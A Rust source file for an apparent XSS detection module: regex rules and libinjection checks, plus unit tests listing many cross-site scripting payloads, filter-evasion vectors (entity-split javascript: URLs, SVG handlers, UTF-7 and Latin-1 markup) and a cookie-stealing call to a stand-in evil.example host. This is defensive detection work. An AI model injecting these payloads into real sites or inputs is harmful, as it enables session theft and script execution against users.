//! Cross-site scripting: libinjection's HTML5 tokenizer (the value parsed as text, as an unquoted,
//! single-, double- and back-quoted attribute value, looking for script-capable tags, event
//! handlers and script URLs), plus rules for what it leaves out: script URLs with whitespace inside,
//! event handlers after a broken-out attribute or whose value calls a function, script sinks
//! called after a break-out or in a value that is nothing but script, markup hidden in charsets a
//! browser or an old decoder would fold back to ASCII (UTF-7, 7-bit Latin-1), and tag-stripped
//! script blocks.

use std::sync::LazyLock;

use regex::Regex;

use crate::features::{
    ANGLE, BACKTICK, BRACKET, COLON, EQUALS, NON_ASCII, PAREN, PLUS, QUOTE, SEMICOLON, SLASH,
};
use crate::finding::AttackKind;
use crate::scan::{Hit, Origin, Subject};

static SCRIPT_TAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)<\s*[a-z][a-z0-9:-]*\b[^>]*?(?:[\s"'/]on[a-z]{3,30}\s*=|\b(?:src|href|data|action|formaction|xlink:href|srcdoc|background|dynsrc|lowsrc)\s*=\s*['"`]?\s*(?:javascript|vbscript|data):)"#,
    )
    .expect("static xss rule compiles")
});

/// Elements that run script or load active content. A namespace prefix does not change what an
/// element is to an XHTML or SVG parser (`<svg:svg>`), and old engines took a NUL as a separator.
static DANGEROUS_TAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<\s*/?\s*(?:[a-z][a-z0-9-]{0,20}:)?(?:script|iframe|object|embed|applet|meta|base|svg|math|frameset|frame|link|style|xss|vmlframe|isindex|template|animate|handler|import|form|body|img|image|video|audio|marquee|param|bindings|layer|ilayer|xml|portal)[\s/>\x00]")
        .expect("static xss rule compiles")
});

static EVENT_HANDLER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:^|[\s"'`;/0-9=,(+])on[a-z]{3,30}\s*=\s*[^\s=]"#)
        .expect("static xss rule compiles")
});

static SCRIPT_URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t\s*:|data\s*:\s*(?:text/html|image/svg\+xml|application/xhtml\+xml|text/xml|application/(?:x-)?(?:java|ecma)script|text/javascript)",
    )
    .expect("static xss rule compiles")
});

static SCRIPT_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob)\s*(?:\(|`)|\bdocument\s*\.\s*(?:cookie|domain|write|location)\b|\bwindow\s*\.\s*(?:location|open|name)\b|\.innerhtml\s*=|\blocation\s*\.\s*(?:href|hash|replace)\b|\bexpression\s*\(",
    )
    .expect("static xss rule compiles")
});

/// An event handler whose value starts by calling a function (`onerror=alert(1)`): script no matter
/// whether a quote or tag came before, since an unquoted attribute ends at whitespace.
static HANDLER_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:^|[^a-z0-9_$.-])on[a-z]{3,30}\s*=\s*['"`]?\s*[a-z_$][\w$.]*\s*[(`]"#)
        .expect("static xss rule compiles")
});

/// What a value that is nothing but JavaScript does to be an attack: calls a dialog or evaluation
/// sink (also as a tagged template or through parentheses), hands a sink to another function
/// (see `SINK_REFERENCE`), calls a computed property of a global object (`top['al'+'ert'](1)`),
/// writes the document or its cookie, or moves the page. Reading `location.href` is not enough:
/// configuration values name such properties.
static STANDALONE_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode)\s*[(`]|\(\s*(?:alert|prompt|confirm|eval)\s*\)\s*[(`]|\b(?:top|window|self|parent|frames|globalthis)\s*\[[^\]\n]{1,80}\]\s*[(`]|\bdocument\s*\.\s*(?:cookie|domain)\s*=[^=]|\b(?:document\s*\.\s*write(?:ln)?|window\s*\.\s*open|expression)\s*\(|\b(?:document|window|top|self)\s*\.\s*location(?:\s*\.\s*href)?\s*=[^=]",
    )
    .expect("static xss rule compiles")
});

/// A dialog or evaluation sink handed over as a value (`[1].find(alert)`, `a=alert,a(1)`). Only
/// script when something in the value is called too: `level=alert,state=open` is a filter.
static SINK_REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)[(=,\[]\s*(?:alert|prompt|confirm|eval)\s*[),\]]")
        .expect("static xss rule compiles")
});

/// Script written without letters (JSFuck: `(![]+[])[+[]]`) and the CSS hooks that bind script
/// to a style (`-moz-binding:`, `behavior:url(...)`).
static OBFUSCATED_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:!\[\]|\+\[\]|\[\]\)|\(!\[\]\+\[\]\)){2}|-moz-binding\s*:|\bbehavior\s*:\s*url\s*\(")
        .expect("static xss rule compiles")
});

static ANY_CALL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[\w$)\]]\s*[(`]").expect("static xss rule compiles"));

/// A script block whose angle brackets a filter removed (`scriptalert(1)/script`): the tag names
/// stay glued to the script between them.
static STRIPPED_SCRIPT_BLOCK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:^|[^a-z])script\s*(?:alert|prompt|confirm|eval|document\s*\.|window\s*\.)[^\n]{0,200}?/\s*script(?:[^a-z]|$)",
    )
    .expect("static xss rule compiles")
});

/// A tag opening in text decoded from another charset.
static TAG_OPEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"<\s*/?[A-Za-z!]").expect("static xss rule compiles"));

/// True when the text reads like prose: a word, maybe closed by a sentence mark, then whitespace
/// and another word ("use alert(1) to test"). A value that is only code has none of that, so a
/// sink call in it is the whole point of the value.
fn reads_like_prose(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut index = 0;
    while index < bytes.len() {
        if !bytes[index].is_ascii_whitespace() {
            index += 1;
            continue;
        }
        let mut before = index;
        while before > 0 && bytes[before - 1].is_ascii_whitespace() {
            before -= 1;
        }
        let mut after = index;
        while after < bytes.len() && bytes[after].is_ascii_whitespace() {
            after += 1;
        }
        let word_before = match before.checked_sub(1).map(|at| bytes[at]) {
            Some(b'.' | b',' | b'!' | b'?' | b':') => before
                .checked_sub(2)
                .is_some_and(|at| bytes[at].is_ascii_alphanumeric()),
            Some(byte) => byte.is_ascii_alphanumeric() || byte >= 0x80,
            None => false,
        };
        let word_after = bytes
            .get(after)
            .is_some_and(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80);
        if word_before && word_after {
            return true;
        }
        index = after.max(index + 1);
    }
    false
}

/// Decodes the UTF-7 shifted runs of a value (`+ADw-` is `<`): a page served or sniffed as UTF-7
/// turns them into markup, and no ordinary value has them. None when there is no such run.
fn utf7_decode(text: &str) -> Option<String> {
    if !text.contains("+AD") && !text.contains("+AC") {
        return None;
    }
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut units: Vec<u16> = Vec::new();
    let mut decoded_any = false;
    let mut index = 0;
    let mut copied_until = 0;
    while index < bytes.len() {
        if bytes[index] != b'+' {
            index += 1;
            continue;
        }
        let run_start = index + 1;
        let mut run_end = run_start;
        while run_end < bytes.len() && base64_value(bytes[run_end]).is_some() {
            run_end += 1;
        }
        if run_end == run_start {
            index += 1;
            continue;
        }
        out.push_str(&text[copied_until..index]);
        units.clear();
        let mut bits: u32 = 0;
        let mut bit_count = 0;
        for byte in &bytes[run_start..run_end] {
            bits = (bits << 6 | u32::from(base64_value(*byte).unwrap_or(0))) & 0x00FF_FFFF;
            bit_count += 6;
            if bit_count >= 16 {
                bit_count -= 16;
                units.push((bits >> bit_count) as u16);
            }
        }
        out.extend(
            char::decode_utf16(units.iter().copied()).map(|unit| unit.unwrap_or('\u{FFFD}')),
        );
        decoded_any = true;
        // The `-` that ends a shifted run is part of it.
        index = if bytes.get(run_end) == Some(&b'-') {
            run_end + 1
        } else {
            run_end
        };
        copied_until = index;
    }
    if !decoded_any {
        return None;
    }
    out.push_str(&text[copied_until..]);
    Some(out)
}

fn base64_value(byte: u8) -> Option<u8> {
    match byte {
        b'A'..=b'Z' => Some(byte - b'A'),
        b'a'..=b'z' => Some(byte - b'a' + 26),
        b'0'..=b'9' => Some(byte - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    }
}

/// The text as a decoder that drops the eighth bit sees it: Latin-1 `¼` (0xBC) becomes `<`, `¾`
/// becomes `>`, `¢` becomes `"`. The crate's Unicode folding has already turned the fractions
/// into `1⁄4` and `3⁄4`, so those forms are folded too. None when no `<` would appear.
fn seven_bit_fold(text: &str) -> Option<String> {
    if !text.contains('\u{2044}') && !text.contains('\u{BC}') {
        return None;
    }
    let spelled = text
        .replace("1\u{2044}4", "\u{BC}")
        .replace("1\u{2044}2", "\u{BD}")
        .replace("3\u{2044}4", "\u{BE}");
    let folded: String = spelled
        .chars()
        .map(|character| match u32::from(character) {
            0x80..=0xFF => char::from((u32::from(character) & 0x7F) as u8),
            _ => character,
        })
        .collect();
    folded.contains('<').then_some(folded)
}

fn markup_in(text: &str) -> bool {
    DANGEROUS_TAG.is_match(text) || SCRIPT_TAG.is_match(text)
}

pub(crate) fn detect(subject: &Subject<'_>) -> Option<Hit> {
    let text = subject.text;
    let features = subject.features;
    // UTF-7 and 7-bit markup need none of the HTML characters until they are decoded.
    if text.len() < 4
        || !features.has(ANGLE | QUOTE | BACKTICK | COLON | EQUALS | PAREN | PLUS | NON_ASCII)
    {
        return None;
    }
    let header = subject.origin == Origin::Header;
    if header && !features.has(ANGLE | QUOTE | BACKTICK) {
        return None;
    }
    if features.has(ANGLE) {
        if let Some(found) = DANGEROUS_TAG.find(text).or_else(|| SCRIPT_TAG.find(text)) {
            return Some(Hit::over(AttackKind::Xss, "xss.script-tag", found.range()));
        }
    }
    if features.has(COLON) {
        if let Some(found) = SCRIPT_URL.find(text) {
            return Some(Hit::over(AttackKind::Xss, "xss.script-url", found.range()));
        }
    }
    // An event handler needs something that ends the attribute or tag before it.
    if features.has(EQUALS) && features.has(ANGLE | QUOTE | BACKTICK) {
        if let Some(found) = EVENT_HANDLER.find(text) {
            return Some(Hit::over(
                AttackKind::Xss,
                "xss.event-handler",
                found.range(),
            ));
        }
    }
    if features.has(EQUALS) {
        if let Some(found) = HANDLER_CALL.find(text) {
            return Some(Hit::over(
                AttackKind::Xss,
                "xss.event-handler",
                found.range(),
            ));
        }
    }
    if features.has(PAREN | BACKTICK | EQUALS | COLON) {
        if let Some(found) = SCRIPT_CALL.find(text) {
            // Only after a break-out: a quote, tag or statement end before the sink. A code
            // snippet that merely calls alert() is not an injection.
            let before = &text.as_bytes()[..found.start()];
            let broke_out = before
                .iter()
                .any(|byte| matches!(byte, b'\'' | b'"' | b'`' | b'<' | b'>' | b';'));
            if broke_out || found.start() == 0 && features.has(ANGLE | QUOTE | SEMICOLON) {
                return Some(Hit::over(AttackKind::Xss, "xss.script-call", found.range()));
            }
        }
        // A value that is only code (no words strung into sentences) and runs a sink is a
        // probe or a payload for a place that evaluates it; prose that mentions alert() is not.
        if features.has(PAREN | BACKTICK | EQUALS) && !reads_like_prose(text) {
            if let Some(found) = STANDALONE_SCRIPT.find(text) {
                return Some(Hit::over(
                    AttackKind::Xss,
                    "xss.script-expression",
                    found.range(),
                ));
            }
            if let Some(found) = SINK_REFERENCE.find(text) {
                if ANY_CALL.is_match(text) {
                    return Some(Hit::over(
                        AttackKind::Xss,
                        "xss.script-expression",
                        found.range(),
                    ));
                }
            }
        }
        if features.has(SLASH) {
            if let Some(found) = STRIPPED_SCRIPT_BLOCK.find(text) {
                return Some(Hit::over(
                    AttackKind::Xss,
                    "xss.stripped-script",
                    found.range(),
                ));
            }
        }
    }
    if features.has(BRACKET | COLON) {
        if let Some(found) = OBFUSCATED_SCRIPT.find(text) {
            return Some(Hit::over(
                AttackKind::Xss,
                "xss.script-expression",
                found.range(),
            ));
        }
    }
    if features.has(PLUS) && !features.has(ANGLE) {
        if let Some(decoded) = utf7_decode(text) {
            if TAG_OPEN.is_match(&decoded) {
                return Some(Hit::new(
                    AttackKind::Xss,
                    "xss.charset-markup",
                    0,
                    text.len(),
                ));
            }
        }
    }
    if features.has(NON_ASCII) && !features.has(ANGLE) {
        if let Some(folded) = seven_bit_fold(text) {
            if markup_in(&folded) {
                return Some(Hit::new(
                    AttackKind::Xss,
                    "xss.charset-markup",
                    0,
                    text.len(),
                ));
            }
        }
    }
    if features.has(ANGLE | QUOTE | BACKTICK)
        && libinjectionrs::detect_xss(text.as_bytes()).is_injection()
    {
        return Some(Hit::new(AttackKind::Xss, "xss.libinjection", 0, text.len()));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::check;

    #[test]
    fn cross_site_scripting_is_found() {
        check(
            detect,
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"><svg/onload=alert(1)>",
                "' onmouseover='alert(1)",
                "javascript:alert(document.cookie)",
                "java\tscript:alert(1)",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "＜script＞alert(1)＜/script＞",
                "<a href=\"javascript:alert(1)\">x</a>",
                "';alert(String.fromCharCode(88,83,83))//",
                "<iframe src=//evil.example>",
                "<body onload=alert(1)>",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            ],
            &[
                "if (a < b) { return x; }",
                "print(\"hello\")",
                "x = 5; y = 10",
                "3 < 5 and 7 > 2",
                "I <3 this product",
                "meeting at 10:30",
                "https://shop.example/p?id=1",
                "function add(a, b) { return a + b; }",
                "the onion=fresh",
                "Tom's \"special\" offer",
                "<b>bold</b> and <i>italic</i>",
            ],
        );
    }

    #[test]
    fn html_grammar_vectors_are_found() {
        check(
            detect,
            &[
                // Entity and whitespace tricks inside script URLs.
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                "<a href=\"java&NewLine;script:alert(1)\">x</a>",
                "vbscript:msgbox(1)",
                "data:image/svg+xml;base64,PHN2Zz4=",
                // SVG, MathML and srcdoc.
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
                "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
                "<details open ontoggle=alert(1)>",
                "<form><button formaction=javascript:alert(1)>go</button></form>",
                // Namespaced, NUL-separated and Netscape elements.
                "</svg:svg>",
                "<object\0 data=//evil.example/x.swf>",
                "<LAYER SRC=\"http://evil.example/scriptlet.html\"></LAYER>",
                "<set attributeName=href to=javascript:alert(1) />",
                "<iframe src=\"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>\">",
            ],
            &[
                "a < b and c > d",
                "I <3 you",
                "John Doe <john.doe@example.com>",
                "**bold** and _italic_ with [a link](https://example.com/docs)",
                "`code` in markdown and a > quote",
                "<p>Hello <em>world</em></p>",
                "x<y && y>z",
                "<set> of rules",
                "Settings > Display",
                "data: text/plain values",
            ],
        );
    }

    #[test]
    fn event_handlers_calling_functions_need_no_break_out() {
        check(
            detect,
            &[
                "onmouseover=alert(1);",
                "x onfocus=alert`1` autofocus",
                "\tA\u{201D} autofocus onfocus=alert(1)//",
                "«img onerror=prompt(1) src=a»",
            ],
            &[
                "the onion=fresh",
                "button=on, mode=auto(1)",
                "turn the notifications on=true",
                "sessions: online=5 (max 10)",
            ],
        );
    }

    #[test]
    fn values_that_are_only_script_are_found() {
        check(
            detect,
            &[
                "alert(1)",
                "alert`1`",
                "alert&lpar;1&rpar;",
                "al\\u0065rt(1)",
                "(alert)(1)",
                "a=alert,a(1)",
                "[1].find(alert)",
                "top[\"al\"+\"ert\"](1)",
                "self[/al/.source+/ert/.source](1)",
                "}alert(/x/);{//",
                "?next=confirm(document.domain)",
                "&{document.cookie=true;};",
                "window.open('https://evil.example/'+document.cookie)",
                "style=x:expression(alert(1))",
                "document.location=\"//evil.example\"",
            ],
            &[
                "use alert(1) to debug the page",
                "Red Alert (2) remastered",
                "Please confirm (yes or no)",
                "console.log(value)",
                "print(\"hello\")",
                "function add(a, b) { return a + b; }",
                "if (count > 3) { notify(user); }",
                "location.href",
                "level=alert",
                "level=alert,state=open",
                "status=(confirm)",
                "x == document.cookie",
                "regular expression (regex) support",
            ],
        );
    }

    #[test]
    fn tag_stripped_script_blocks_are_found() {
        check(
            detect,
            &[
                "scriptalert(1)/script",
                "-1scriptdocument.cookie=true;/script",
            ],
            &[
                "the script/subscript alert settings",
                "javascript/typescript guide",
            ],
        );
    }

    #[test]
    fn markup_in_utf7_and_seven_bit_latin1_is_found() {
        check(
            detect,
            &[
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "+ADw-p+AD4-hello+ADw-+AC8-p+AD4-",
                "\u{BC}script\u{BE}alert(\u{A2}x\u{A2})\u{BC}/script\u{BE}",
            ],
            &[
                "C++ and C# +ADD-ons",
                "+49 30 1234567",
                "a+b=c",
                "\u{BC} cup of sugar and \u{BE} cup of milk",
                "caf\u{E9} cr\u{E8}me br\u{FB}l\u{E9}e (2)",
            ],
        );
    }

    #[test]
    fn utf7_runs_decode_to_utf16_units() {
        assert_eq!(utf7_decode("+ADw-b+AD4-").as_deref(), Some("<b>"));
        assert_eq!(utf7_decode("x+ACI-y").as_deref(), Some("x\"y"));
        assert_eq!(utf7_decode("no runs"), None);
    }

    #[test]
    fn letterless_script_and_css_bindings_are_found() {
        check(
            detect,
            &[
                "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
                "-moz-binding:url(http://x/a.xml#xss)",
                "width: 1px; behavior: url(x.htc)",
            ],
            &[
                "[1, 2] + [3]",
                "items[] = 1",
                "a-moz-bindings list",
                "behavior: friendly",
            ],
        );
    }

    #[test]
    fn prose_is_told_from_code() {
        for prose in ["hello world", "Note: alert(1)", "a, b", "x. Then"] {
            assert!(reads_like_prose(prose), "{prose}");
        }
        for code in [
            "alert(1)",
            "a=alert,a(1)",
            "for (i=1;i<6;i++) {",
            "  x(1)  ",
        ] {
            assert!(!reads_like_prose(code), "{code}");
        }
    }
}
